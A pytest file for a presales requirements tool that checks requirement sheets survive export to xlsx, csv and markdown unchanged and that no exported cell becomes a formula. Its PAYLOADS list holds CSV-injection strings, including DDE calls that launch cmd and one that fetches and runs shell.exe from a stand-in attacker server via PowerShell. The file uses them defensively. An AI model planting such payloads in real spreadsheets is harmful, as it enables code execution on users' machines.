"""The requirement list that goes out comes back as it was, and no cell of it is a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from presales_tui.documents.sheets.own_columns import own_columns
from presales_tui.documents.sheets.record_sheet import delimited, markdown, workbook
from presales_tui.imports.records.form import SheetColumn, text_of
from presales_tui.imports.records.links import named
from presales_tui.imports.requirements import FORM, plan_import
from presales_tui.imports.requirements.columns import COLUMNS
from presales_tui.imports.sheets import read_tables
from presales_tui.model import scales
from presales_tui.model.errors import BadInput
from presales_tui.model.requirement import Requirement
from presales_tui.model.text import clean, one_line
from tests.imports.support import corpus, corpus_files

FORMATS = ("xlsx", "csv", "md")
PAYLOADS = (
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1-1",
    "'=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
)


def written(
    records: Sequence[Requirement], format_: str, lang: str = "zh", columns: Sequence[SheetColumn] = COLUMNS
) -> bytes:
    if format_ == "xlsx":
        return workbook(records, columns, lang, "x", "x")
    rows = [[clean(text_of(column, r, lang)) for column in columns] for r in records]
    return (delimited if format_ == "csv" else markdown)([column.label(lang) for column in columns], rows)


def back(data: bytes, format_: str, existing: Sequence[Requirement] = ()) -> list[Requirement]:
    plan = plan_import(read_tables(data, f"x.{format_}"), opportunity="o", existing=existing)
    return [put.new for put in plan.change.puts if isinstance(put.new, Requirement)]


def fields(record: Requirement) -> dict[str, Any]:
    return {name: value for name, value in record.__dict__.items() if name != "id"}


def same(records: Sequence[Requirement]) -> None:
    for format_ in FORMATS:
        data = written(records, format_)
        assert [fields(r) for r in back(data, format_)] == [fields(r) for r in records], format_
        assert back(data, format_, records) == [], format_


FULL = Requirement(
    opportunity="o",
    ref="REQ-007",
    title="排课 | 冲突",
    statement="- 老师\n- 教室 <br> &amp; **粗**\n\n    缩进",
    module="排课 / 冲突",
    type="interface",
    priority="must",
    status="confirmed",
    fit="custom",
    effort_low=3.5,
    effort_high=7,
    effort_roles=(("backend", 3.0, 6.0), ("testing", 0.5, 1.0)),
    capability="排课引擎",
    evidence="手册 3.2",
    response="支持\n见附件",
    acceptance="每秒 > 100",
    actor="教务",
    level="business",
    quality="reliability",
    impact="breaker",
    clause="3.1",
    clause_mark="★",
    deviation="positive",
    tags=("集成", "一期"),
    source_kind="tender",
    speaker="李主任",
    quote="必须有",
    visibility="internal",
    external_id="A-1",
    note="备注: 一\n=二",
)


def test_every_field_comes_back() -> None:
    roles = tuple(role for role in FULL.effort_roles if role[0] in scales.ROLE)
    same(
        [
            replace(FULL, effort_roles=roles if len(roles) == 2 else ()),
            Requirement(opportunity="o", ref="REQ-008", title="b"),
        ]
    )


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_links_go_out_as_refs_and_come_back(format_: str, lang: str) -> None:
    first, second, third = (Requirement(opportunity="o", ref=f"REQ-00{n}", title=f"r{n}") for n in (1, 2, 3))
    first = replace(first, depends=(third.id, second.id), conflicts=(second.id,))
    second = replace(second, duplicates=(first.id,))
    records = [first, second, third]
    refs = {r.id: r.ref for r in records}
    shown = [named(FORM, r, refs) for r in records]
    data = written(shown, format_, lang)
    assert back(data, format_, records) == []
    plan = plan_import(read_tables(data, f"x.{format_}"), opportunity="o")
    made = [put.new for put in plan.change.puts if isinstance(put.new, Requirement)]
    assert [fields(named(FORM, r, plan.names)) for r in made] == [fields(r) for r in shown]
    # Taken away in the sheet: gone; what is not in the sheet at all stays.
    fourth = Requirement(opportunity="o", ref="REQ-009", title="r9")
    linked = replace(third, depends=(first.id, fourth.id))
    (again,) = back(data, format_, [first, second, linked, fourth])
    assert again.depends == (fourth.id,)


def test_links_name_numbers_of_their_sheet_and_other_words_stay() -> None:
    data = (
        '需求编号,需求名称,依赖,优先级\nA-1,分级,A-2、A-3,必须\nA-2,排课,"A-1；等合同签完",应该\n'
        "A-3,门禁,,必须\nA-3,班牌,A 1,应该\n"
    )
    one, two, _three, four = back(data.encode(), "csv")
    assert one.depends == (two.id,), "A-3 stands twice: nobody knows which"
    assert one.note == "依赖: A-2、A-3"
    assert two.depends == (one.id,)
    assert two.note == "依赖: A-1；等合同签完"
    assert (four.depends, four.note) == ((), "依赖: A 1")


@pytest.mark.parametrize("format_", FORMATS)
def test_no_cell_is_a_formula_and_the_words_are_the_same(format_: str) -> None:
    records = [
        Requirement(opportunity="o", ref=f"REQ-{n:03}", title=text, statement=text, note=text)
        for n, text in enumerate(PAYLOADS, 1)
    ]
    same(records)
    data = written(records, format_)
    if format_ == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        found = [cell for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in found} <= {"s", "n"}
        cells = [str(cell.value or "") for cell in found]
    elif format_ == "csv":
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    else:
        cells = [cell.strip() for line in data.decode().splitlines()[2:] for cell in line.split(" | ")]
    assert not [cell for cell in cells if cell.strip()[:1] in set("=+-@＝＋－＠")]


TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Co", "Cn")), max_size=30)
LINES = st.lists(TEXT, max_size=3).map(lambda parts: clean("\n".join(parts)).strip(" \t\u3000\xa0\n"))


@settings(max_examples=25, deadline=None)
@given(st.lists(st.tuples(TEXT, LINES, LINES), min_size=1, max_size=4))
def test_any_text_comes_back(texts: list[tuple[str, str, str]]) -> None:
    same(
        [
            Requirement(
                opportunity="o",
                ref=f"REQ-{n:03}",
                title=one_line(title)[:60] or "x",
                statement=statement,
                note=note,
            )
            for n, (title, statement, note) in enumerate(texts, 1)
            if "x005F_" not in title + statement + note
        ]
    )


def test_a_text_too_long_for_a_cell_is_said_and_not_cut() -> None:
    long = Requirement(opportunity="o", ref="REQ-001", title="a", statement="字" * 40_000)
    with pytest.raises(BadInput, match="REQ-001: In full has 40,000 characters"):
        workbook([long], COLUMNS, "en", "x", "x")
    assert back(written([long], "csv"), "csv")[0].statement == long.statement


def test_a_workbook_is_made_to_work_in() -> None:
    book = load_workbook(io.BytesIO(written([FULL], "xlsx")))
    sheet, legend = book.worksheets
    assert (sheet.freeze_panes, sheet.auto_filter.ref is not None) == ("E2", True)
    lists = {str(rule.sqref): rule.formula1 for rule in sheet.data_validations.dataValidation}
    assert len(lists) == sum(column.scale is not None for column in COLUMNS)
    assert "必须" in [cell.value for column in legend.iter_cols() for cell in column]


@corpus
def test_every_readable_sheet_of_the_corpus_comes_back_without_a_difference() -> None:
    for path in corpus_files("1_requirements", "6_sheets_docs"):
        try:
            plan = plan_import(read_tables(path), opportunity="o")
        except BadInput:
            continue
        found = [put.new for put in plan.change.puts if isinstance(put.new, Requirement)]
        if found:
            same([replace(r, ref=f"REQ-{n:03}") for n, r in enumerate(found, 1)])


@pytest.mark.parametrize("format_", FORMATS)
def test_columns_that_we_do_not_know_go_out_as_columns_and_come_back(format_: str) -> None:
    text = '编号,需求,归口部门,备注,Gate\nA1,排课,教务处,先看,G1\nA2,报表,财务处,,G2\nA3,短信,,"两\n行",G1\n'
    records = [replace(r, ref=f"REQ-00{n}") for n, r in enumerate(back(text.encode(), "csv"), 1)]
    own, left = own_columns(FORM, records)
    assert [column.name for column in own] == ["归口部门", "Gate"]
    assert [r.note for r in left] == ["先看", "", "两\n行"]
    columns = [*COLUMNS, *own]
    data = written(left, format_, columns=columns)
    assert back(data, format_, records) == []
    assert [sorted(r.note.split("\n")) for r in back(data, format_)] == [
        sorted(r.note.split("\n")) for r in records
    ]
    if format_ == "csv":
        (changed,) = back(data.replace("财务处".encode(), "计财处".encode()), format_, records)
        assert changed.note == "归口部门: 计财处\nGate: G2"


def test_a_remark_with_a_colon_is_no_column() -> None:
    said = [
        FULL,
        replace(FULL, id="b", ref="REQ-008", note="注意: 先问王老师\n再说"),
        replace(FULL, id="c", ref="REQ-009", note="优先级: P1"),
        replace(FULL, id="d", ref="REQ-010", note="优先级: P2"),
    ]
    assert own_columns(FORM, said) == ((), said)


def test_words_that_go_on_below_stay_in_the_note() -> None:
    said = [replace(FULL, id=str(n), ref=f"REQ-01{n}", note="部门: 教务\n和学工") for n in range(3)]
    _own, left = own_columns(FORM, said)
    assert [r.note for r in left] == [r.note for r in said]
